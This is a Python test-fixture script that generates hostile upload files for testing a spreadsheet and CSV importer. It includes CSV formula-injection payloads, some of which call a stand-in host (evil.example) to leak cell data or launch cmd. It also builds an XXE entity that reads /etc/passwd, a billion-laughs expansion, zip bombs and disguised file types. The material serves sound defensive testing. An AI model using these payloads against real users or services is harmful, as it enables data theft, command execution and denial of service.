"""Hostile upload files: ``python tests/data/hostile/corpus.py`` rewrites the small
ones kept in this folder; the large ones (bombs, huge sheets) are built at test time
by ``large_files()`` so the repository stays small."""
from __future__ import annotations

import io
import re
import sys
import zipfile
from pathlib import Path
from typing import Callable, Iterator

HERE = Path(__file__).resolve().parent
# Text a spreadsheet would run as a formula, and the usual CSV injection payloads.
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"Click for details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+1",
    "\r=2+2",
    "=cmd|'/c notepad'!A1",
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A2),\"//a\")",
]


def xlsx(rows, title: str = "Sheet1") -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = title
    for row in rows:
        ws.append(row)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def rewrite(data: bytes, change: Callable[[str, bytes], bytes | None], *,
            extra: dict[str, bytes] | None = None) -> bytes:
    """A copy of a zip with members changed (None drops one) or added."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            content = change(info.filename, source.read(info.filename))
            if content is not None:
                archive.writestr(info.filename, content)
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return out.getvalue()


def mark_encrypted(data: bytes) -> bytes:
    """Set the 'encrypted' flag on every member (local and central headers), as a
    password-protected zip has it."""
    out = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = out.find(signature)
        while at != -1:
            out[at + offset] |= 0x1
            at = out.find(signature, at + 4)
    return bytes(out)


def _sheet(change: Callable[[bytes], bytes]) -> Callable[[str, bytes], bytes]:
    return lambda name, content: change(content) if name == "xl/worksheets/sheet1.xml" \
        else content


BASE = [["sku", "name", "qty", "unit_price"], ["OF-100", "Oil filter", 2, 2.5]]
LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{i} "{("&lol;" if i == 1 else f"&lol{i - 1};") * 10}">'
                    for i in range(1, 10)) + "]>")


def small_files() -> dict[str, bytes]:
    base = xlsx(BASE)
    laughs = _sheet(lambda c: c.replace(b"<worksheet", LAUGHS.encode() + b"<worksheet", 1)
                    .replace(b"<t>Oil filter</t>", b"<t>&lol9;</t>"))
    xxe = _sheet(lambda c: c.replace(
        b"<worksheet", b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet', 1)
        .replace(b"<t>Oil filter</t>", b"<t>&x;</t>"))
    late = _sheet(lambda c: re.sub(
        rb"^(<\?xml[^>]*\?>)?", lambda m: (m.group(0) or b"") + b"<!--" + b" " * 6000 + b"-->"
        + LAUGHS.encode(), c, count=1).replace(b"<t>Oil filter</t>", b"<t>&lol9;</t>"))
    understated = _sheet(lambda c: re.sub(rb'<dimension ref="[^"]*" ?/>',
                                          b'<dimension ref="A1" />', c))
    lie = _sheet(lambda c: re.sub(rb'<dimension ref="[^"]*" ?/>',
                                  b'<dimension ref="A1:XFD1048576" />', c))
    docx = io.BytesIO()
    with zipfile.ZipFile(docx, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return {
        "billion_laughs.xlsx": rewrite(base, laughs),
        "external_entity.xlsx": rewrite(base, xxe),
        "dtd_after_long_comment.xlsx": rewrite(base, late),
        "dimension_understated.xlsx": rewrite(base, understated),
        "dimension_huge.xlsx": rewrite(base, lie),
        "encrypted.xlsx": mark_encrypted(base),
        "truncated.xlsx": base[: len(base) // 2],
        "docx_renamed.xlsx": docx.getvalue(),
        "pdf_renamed.xlsx": b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj <<>> endobj\n",
        "png_renamed.csv": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 64,
        "elf_renamed.xlsx": b"\x7fELF\x02\x01\x01" + b"\x00" * 120,
        "old_excel_renamed.xlsx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504,
        "invalid_encoding.csv": b"sku,name,qty\nOF-100,\xff\xfe\xfa\xfb\x81\x30 filter,1\n",
        "utf16_no_bom.csv": "sku,name,qty\nOF-100,滤清器,1\n".encode("utf-16-le"),
        "nul_bytes.csv": b"sku,name,qty\nOF-100,fil\x00ter,1\n",
        "empty.csv": b"",
        "script.xlsm.exe": b"MZ\x90\x00" + b"\x00" * 60,
    }


def _stream_zip(members: dict[str, Callable[[], Iterator[bytes]] | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            if isinstance(content, bytes):
                archive.writestr(name, content)
                continue
            with archive.open(name, "w", force_zip64=True) as member:
                for chunk in content():
                    member.write(chunk)
    return out.getvalue()


def _with_sheet(rows: Callable[[], Iterator[bytes]]) -> bytes:
    """A real workbook whose first sheet's XML is streamed from ``rows``."""
    base = zipfile.ZipFile(io.BytesIO(xlsx([["x"]])))
    members: dict = {info.filename: base.read(info.filename) for info in base.infolist()}

    def sheet():
        yield (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
               b'openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
        yield from rows()
        yield b"</sheetData></worksheet>"

    members["xl/worksheets/sheet1.xml"] = sheet
    return _stream_zip(members)


def _cell(ref: str, text: str) -> bytes:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'.encode()


def large_files() -> dict[str, bytes]:
    """Bombs and huge sheets, built in memory (a few MB each)."""
    def zeros():
        chunk = b"0" * (1 << 20)
        for _ in range(400):
            yield chunk

    def many_rows(count):
        def rows():
            yield b'<row r="1">' + _cell("A1", "sku") + _cell("B1", "name") + _cell("C1", "qty") \
                + _cell("D1", "location") + _cell("E1", "counted qty") + b"</row>"
            for r in range(2, count + 2):
                yield (f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>P{r}</t></is></c>'
                       f'<c r="C{r}"><v>{r % 9 + 1}</v></c></row>').encode()
        return rows

    def wide():
        yield b'<row r="1">' + b"".join(_cell(_col(i) + "1", f"h{i}") for i in range(16384)) \
            + b"</row>"

    def far_cell():
        yield b'<row r="1">' + _cell("A1", "sku") + _cell("B1", "qty") + b"</row>"
        yield b'<row r="1048576">' + _cell("XFD1048576", "x") + b"</row>"

    base = zipfile.ZipFile(io.BytesIO(xlsx(BASE)))
    members = {info.filename: base.read(info.filename) for info in base.infolist()}
    for n in range(6000):
        members[f"xl/media/junk{n}.bin"] = b""
    csv_rows = b"sku,name,qty,location,counted qty\n" + b"".join(
        b"P%d,Part %d,%d,A-01-01,1\n" % (n, n, n % 9 + 1) for n in range(330_000))
    return {
        "zip_bomb.xlsx": _with_sheet(zeros),
        "zip_members_bomb.xlsx": _stream_zip(members),
        "rows_105k.xlsx": _with_sheet(many_rows(105_000)),
        "columns_16k.xlsx": _with_sheet(wide),
        "far_cell.xlsx": _with_sheet(far_cell),
        "rows_330k.csv": csv_rows,
        "giant_cell.csv": b"sku,name,qty\nOF-100," + b"A" * (9 * 1024 * 1024) + b",1\n",
        "oversize.csv": b"sku,qty\n" + b"OF-100,1\n" * (11 * 1024 * 1024 // 9),
    }


def _col(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


if __name__ == "__main__":
    for name, content in small_files().items():
        (HERE / name).write_bytes(content)
        print(f"{name}: {len(content)} bytes", file=sys.stderr)
